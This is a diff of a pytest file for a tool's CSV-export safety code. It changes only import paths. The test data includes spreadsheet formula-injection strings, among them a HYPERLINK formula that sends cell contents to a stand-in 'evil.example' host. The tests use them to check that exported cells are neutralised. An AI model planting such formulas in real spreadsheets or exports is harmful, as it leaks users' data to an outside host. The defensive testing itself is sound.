@@ -6,8 +6,8 @@ import pytest
 
 from graph.cli import main
 from graph.csv_safe import FORMULA_STARTS, safe_cell, write_csv
-from graph.formats import render
-from graph.query import Result
+from graph.query.formats import render
+from graph.query.run import Result
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTabbed",
            "\rReturned"]
@@ -52,8 +52,8 @@ def hostile_build(tmp_path, tiny_dataset):
     """A built folder (files and store) whose names and evidence start like spreadsheet formulas."""
     from rdflib import Literal
 
-    from graph.oxstore import STORE_DIR, write_store
-    from graph.store import write
+    from graph.build.oxstore import STORE_DIR, write_store
+    from graph.build.store import write
 
     swaps = {"Ana Ruiz": HOSTILE[0], "Harbour Council": "+Harbour Council", "Bob Lee": "@Bob Lee"}
     for g in list(tiny_dataset.graphs()):
